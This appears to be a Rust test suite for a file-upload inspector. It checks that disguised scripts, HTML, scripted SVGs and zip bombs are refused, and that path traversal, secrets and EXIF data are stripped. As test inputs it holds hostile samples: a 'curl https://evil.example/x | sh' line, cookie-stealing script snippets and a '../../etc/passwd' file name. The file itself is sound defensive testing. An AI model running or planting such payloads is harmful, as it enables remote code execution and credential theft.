//! The whole pipeline, one case per thing the allow-list refuses or cleans.

use super::*;
use crate::attachments::Removal;

fn upload(name: &str, bytes: &[u8]) -> Upload {
    Upload {
        name: name.to_owned(),
        bytes: bytes.to_vec(),
    }
}

fn run(name: &str, bytes: &[u8]) -> Result<Inspected, Refused> {
    inspect(upload(name, bytes), &Limits::default())
}

fn looks_like(result: Result<Inspected, Refused>) -> Option<&'static str> {
    match result {
        Err(Refused::NotAllowed { looks_like }) => looks_like,
        other => panic!("expected NotAllowed, got {other:?}"),
    }
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

fn png_bytes() -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    ::image::DynamicImage::ImageRgb8(::image::RgbImage::new(8, 8))
        .write_to(&mut out, ::image::ImageFormat::Png)
        .expect("encodes");
    out.into_inner()
}

#[test]
fn a_script_named_png_is_refused_as_a_script() {
    let got = run(
        "screenshot.png",
        b"#!/bin/bash\ncurl -s https://evil.example/x | sh\n",
    );
    assert_eq!(looks_like(got), Some("a script"));
}

#[test]
fn an_html_file_is_refused_as_a_web_page() {
    let got = run(
        "error.txt",
        b"<!DOCTYPE html>\n<html><body><script>steal()</script></body></html>",
    );
    assert_eq!(looks_like(got), Some("a web page"));
}

#[test]
fn an_svg_with_script_is_refused_as_an_svg_image() {
    let svg = br#"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>"#;
    assert_eq!(looks_like(run("logo.png", svg)), Some("an SVG image"));
}

#[test]
fn a_zip_bomb_is_refused() {
    let zeros = vec![0u8; 50 * 1024 * 1024];
    let bomb = crate::attachments::archive::tests::zip_of(&[("zeros.log", &zeros)]);
    assert!(matches!(
        run("logs.zip", &bomb),
        Err(Refused::BadZip { .. })
    ));
}

#[test]
fn an_empty_file_is_refused() {
    assert_eq!(run("empty.log", b""), Err(Refused::Empty));
}

#[test]
fn a_file_over_the_limit_is_refused() {
    let limits = Limits {
        max_file_bytes: 10,
        ..Limits::default()
    };
    assert_eq!(
        inspect(upload("a.txt", b"eleven bytes"), &limits),
        Err(Refused::TooLarge { limit: 10 })
    );
}

#[test]
fn binary_junk_is_refused_without_a_guess() {
    assert_eq!(looks_like(run("data.bin", b"\x00\x01\x02\x03binary")), None);
}

#[test]
fn names_lose_paths_and_control_characters() {
    let text = run("../../etc/passwd\u{0007}.txt", b"root:x:0:0").expect("text");
    assert_eq!(text.name, "passwd.txt");
    assert_eq!(text.kind, FileKind::Text);
    let shot = run("C:\\Users\\me\\shot.png", &png_bytes()).expect("image");
    assert_eq!(shot.name, "shot.png");
    assert_eq!(shot.kind, FileKind::Png);
    assert!(shot.thumbnail.is_some());
}

#[test]
fn the_chromium_har_comes_out_valid_and_clean() {
    let har = include_bytes!("../../../tests/fixtures/attachments/chromium.har");
    let got = run("api.example-saas.com.har", har).expect("accepted");
    assert_eq!(got.kind, FileKind::Har);
    let value: serde_json::Value = serde_json::from_slice(&got.bytes).expect("still JSON");
    assert!(
        value["log"]["entries"]
            .as_array()
            .is_some_and(|e| e.len() == 4)
    );
    for secret in [
        "at_8cN2pQ7rT4vX9zB1mK5",
        "cs_live_Z9y8X7w6V5u4T3s2R1q0",
        "Qm9vZ2xlLXNlc3Npb24tOTk4NzY1",
    ] {
        assert!(!contains(&got.bytes, secret.as_bytes()), "{secret}");
    }
    assert!(got.removed.iter().any(|r| r.what == "Authorization header"));
    let again = run("again.har", &got.bytes).expect("accepted");
    assert_eq!(again.bytes, got.bytes);
    assert_eq!(again.removed, Vec::<Removal>::new());
}

#[test]
fn the_integration_log_comes_out_clean() {
    let log = include_bytes!("../../../tests/fixtures/attachments/integration.log");
    let got = run("job-4412.log", log).expect("accepted");
    assert_eq!(got.kind, FileKind::Text);
    assert!(!contains(&got.bytes, b"9f8e7d6c5b4a39281706f5e4d3c2b1a0"));
    assert!(!contains(&got.bytes, b"Tr0ub4dor_3x"));
    assert!(!got.removed.is_empty());
}

#[test]
fn a_photo_loses_its_exif_and_says_so() {
    let jpeg = crate::attachments::image::tests::jpeg(true);
    let got = run("IMG_0042.JPG", &jpeg).expect("accepted");
    assert_eq!(got.kind, FileKind::Jpeg);
    assert!(!contains(
        &got.bytes,
        crate::attachments::image::tests::GPS_MARKER
    ));
    assert_eq!(
        got.removed,
        [Removal {
            what: "image metadata (EXIF, GPS)".into(),
            count: 1
        }]
    );
}

#[test]
fn a_gif_is_stored_and_named_as_png() {
    let mut gif = std::io::Cursor::new(Vec::new());
    ::image::DynamicImage::ImageRgba8(::image::RgbaImage::new(4, 4))
        .write_to(&mut gif, ::image::ImageFormat::Gif)
        .expect("encodes");
    let got = run("party.GIF", gif.get_ref()).expect("accepted");
    assert_eq!((got.kind, got.name.as_str()), (FileKind::Png, "party.png"));
}

#[test]
fn a_pdf_is_kept_as_sent() {
    let pdf = b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n";
    let got = run("invoice.pdf", pdf).expect("accepted");
    assert_eq!(
        (got.kind, got.bytes.as_slice()),
        (FileKind::Pdf, pdf.as_slice())
    );
}
